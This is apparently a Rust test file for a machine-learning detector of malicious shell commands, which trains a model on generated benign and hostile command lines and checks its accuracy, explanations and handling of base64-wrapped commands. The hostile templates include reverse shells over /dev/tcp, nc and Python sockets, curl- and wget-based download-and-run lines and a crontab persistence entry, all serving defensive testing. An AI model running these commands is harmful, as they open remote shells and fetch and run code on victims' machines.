//! A model trained on a generated corpus separates held-out texts and explains itself.

use std::sync::Arc;

use warden_payload::model::PayloadModel;
use warden_payload::train::{TrainParams, roc_auc, train};
use warden_payload::{Analyzer, Shell, VerdictConfig, features};

/// Benign and malicious command lines built from parts, so held-out texts are new strings.
fn corpus(seed: u64, n: usize) -> Vec<(String, bool)> {
    let benign_tools = [
        "ls -la",
        "git log --oneline",
        "grep -r TODO src",
        "tar -czf backup.tgz docs",
        "du -sh *",
        "ps aux",
        "df -h",
        "make test",
        "cargo build",
        "npm install",
    ];
    let malicious = [
        "curl -s http://{ip}/x.sh | bash",
        "bash -i >& /dev/tcp/{ip}/{port} 0>&1",
        "nc -e /bin/sh {ip} {port}",
        "wget -q http://{ip}/m -O /tmp/m && chmod +x /tmp/m && /tmp/m",
        "python3 -c 'import socket,os;s=socket.socket();s.connect((\"{ip}\",{port}));os.dup2(s.fileno(),0)'",
        "echo '* * * * * curl http://{ip}/b|sh' | crontab -",
    ];
    let mut state = seed;
    let mut next = move || {
        state = state
            .wrapping_mul(6364136223846793005)
            .wrapping_add(1442695040888963407);
        (state >> 33) as usize
    };
    (0..n)
        .map(|i| {
            let ip = format!(
                "{}.{}.{}.{}",
                11 + next() % 200,
                next() % 255,
                next() % 255,
                1 + next() % 250
            );
            let port = 1024 + next() % 60000;
            if i % 5 == 0 {
                let t = malicious[next() % malicious.len()]
                    .replace("{ip}", &ip)
                    .replace("{port}", &port.to_string());
                (t, true)
            } else {
                let t = format!(
                    "{} {}",
                    benign_tools[next() % benign_tools.len()],
                    ["", "-v", "| head", "> out.txt", "&& echo ok"][next() % 5]
                );
                (t, false)
            }
        })
        .collect()
}

/// A generated training set as `warden train payload` prepares it: the texts (as shell
/// scripts), their features and pattern ids with labels, and training settings for it.
struct Examined {
    texts: Vec<(String, Option<Shell>)>,
    rows: Vec<(features::Features, bool)>,
    ids: Vec<(Vec<String>, bool)>,
    params: TrainParams,
}

fn examined(seed: u64) -> Examined {
    let plain = Analyzer::new(None, VerdictConfig::default());
    let set = features::FeatureSet {
        bits: 16,
        ..features::FeatureSet::default()
    };
    let (mut texts, mut rows, mut ids) = (Vec::new(), Vec::new(), Vec::new());
    for (text, y) in corpus(seed, 600) {
        let a = plain.examine(&text, Some(Shell::Sh));
        rows.push((features::extract(&a, &set), y));
        ids.push((warden_payload::tempering::pattern_ids(&a), y));
        texts.push((text, Some(Shell::Sh)));
    }
    let params = TrainParams {
        features: set,
        epochs: 6,
        ..TrainParams::default()
    };
    Examined {
        texts,
        rows,
        ids,
        params,
    }
}

/// A model trained on a generated set, with its combiner fitted on five folds.
fn with_combiner(seed: u64) -> PayloadModel {
    let t = examined(seed);
    let mut model = train(&t.rows, &t.params, "test").unwrap_or_else(|e| panic!("{e}"));
    let combiner =
        warden_payload::combiner::fit(&t.texts, &[], &t.rows, &t.ids, &t.params, None, 5);
    model.combiner = Some(combiner.unwrap_or_else(|e| panic!("{e}")));
    model
}

#[test]
fn a_trained_model_separates_new_texts_and_survives_its_file() {
    let t = examined(1);
    let model = train(&t.rows, &t.params, "test").unwrap();
    assert!(model.summary.validation_auc > 0.95, "{:?}", model.summary);
    let bytes = model.to_bytes();
    let model = Arc::new(PayloadModel::from_bytes(&bytes).unwrap());
    let a = Analyzer::new(Some(model), VerdictConfig::default());
    let held_out = corpus(99, 300);
    let scored: Vec<(f64, bool)> = held_out
        .iter()
        .map(|(t, y)| (f64::from(a.analyze(t, Some(Shell::Sh)).score), *y))
        .collect();
    assert!(roc_auc(&scored) > 0.97, "{}", roc_auc(&scored));
    let v = a.analyze(
        "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
        Some(Shell::Bash),
    );
    let m = v.model.as_ref().unwrap();
    assert!(m.probability > 0.5 && !m.raised_by.is_empty(), "{m:?}");
    assert!(v.explanation.contains("The model rates it"));
}

#[test]
fn one_class_training_is_refused() {
    let plain = Analyzer::new(None, VerdictConfig::default());
    let set = features::FeatureSet {
        bits: 12,
        ..features::FeatureSet::default()
    };
    let rows = vec![(features::extract(&plain.examine("ls", None), &set), false)];
    assert!(
        train(
            &rows,
            &TrainParams {
                features: set,
                ..TrainParams::default()
            },
            ""
        )
        .is_err()
    );
}

#[test]
fn a_model_with_its_combiner_survives_its_file_and_explains_the_weighing() {
    let model = with_combiner(3);
    let model = Arc::new(PayloadModel::from_bytes(&model.to_bytes()).unwrap());
    assert!(model.combiner.is_some());
    let a = Analyzer::new(Some(model), VerdictConfig::default());
    let scored: Vec<(f64, bool)> = corpus(99, 300)
        .iter()
        .map(|(t, y)| (f64::from(a.analyze(t, Some(Shell::Sh)).score), *y))
        .collect();
    assert!(roc_auc(&scored) > 0.97, "{}", roc_auc(&scored));
    let v = a.analyze("nc -e /bin/sh 203.0.113.9 4444", Some(Shell::Sh));
    let m = v.model.as_ref().unwrap();
    assert!(m.probability > 0.5, "{m:?}");
    // The n-gram model's own score is kept beside the combined one, and the explanation
    // says what the combiner weighed it with.
    assert!(m.text_probability.is_some(), "{m:?}");
    assert!(
        v.explanation.contains("(the text alone"),
        "{}",
        v.explanation
    );
    // A file with a damaged combiner is refused.
    let mut broken = (*a.model().unwrap().clone()).clone();
    if let Some(c) = broken.combiner.as_mut() {
        c.ids.push("zzz-unknown".into());
    }
    assert!(PayloadModel::from_bytes(&broken.to_bytes()).is_err());
}

/// `echo <base64> | base64 -d | sh`: one layer of the sh decoder's kind.
fn wrapped(text: &str) -> String {
    format!(
        "echo {} | base64 -d | sh",
        warden_payload::deobf::codec::to_base64(text.as_bytes())
    )
}

#[test]
fn a_command_wrapped_again_never_scores_below_any_form_it_decodes_to() {
    let a = Analyzer::new(Some(Arc::new(with_combiner(5))), VerdictConfig::default());
    let mut checked = 0;
    for (text, _) in corpus(42, 200) {
        let once = wrapped(&text);
        let twice = wrapped(&once);
        let v = a.analyze(&twice, Some(Shell::Sh));
        assert_eq!(v.layers.len(), 3, "{twice}: {:?}", v.layers);
        for form in [&text, &once] {
            let alone = a.analyze(form, Some(Shell::Sh)).score;
            assert!(v.score >= alone, "{} < {alone} for {form}", v.score);
            checked += 1;
        }
    }
    assert_eq!(checked, 400);
}

#[test]
fn a_text_only_scored_gets_the_score_level_and_action_of_its_explained_verdict() {
    // Every view a model has: the n-gram model, presence trees weighed by the combiner.
    let t = examined(7);
    let mut model = train(&t.rows, &t.params, "test").unwrap();
    let trees = warden_payload::presence::TreeParams {
        trees: 40,
        ..Default::default()
    };
    model.presence =
        Some(warden_payload::presence::fit(&t.rows, t.params.features.bits, &trees).unwrap());
    model.combiner = Some(
        warden_payload::combiner::fit(&t.texts, &[], &t.rows, &t.ids, &t.params, Some(&trees), 5)
            .unwrap(),
    );
    let a = Analyzer::new(Some(Arc::new(model)), VerdictConfig::default());
    let (mut explained, mut alerting) = (0, 0);
    for (text, _) in corpus(77, 150) {
        // As written, and hidden under a layer (whose decoded form is scored on its own too).
        for form in [text.clone(), wrapped(&text)] {
            let full = a.analyze(&form, Some(Shell::Sh));
            let triage = a.triage(&form, Some(Shell::Sh));
            assert_eq!(triage, warden_payload::Triage::from(&full), "{form}");
            assert!(!full.explanation.is_empty());
            explained += usize::from(full.model.as_ref().is_some_and(|m| !m.raised_by.is_empty()));
            alerting += usize::from(full.level >= warden_event::ThreatLevel::High);
        }
    }
    // Both sides were met: texts that alert, and explanations that name features.
    assert!(
        alerting > 20 && explained > 20,
        "{alerting} alerting, {explained} explained"
    );
}
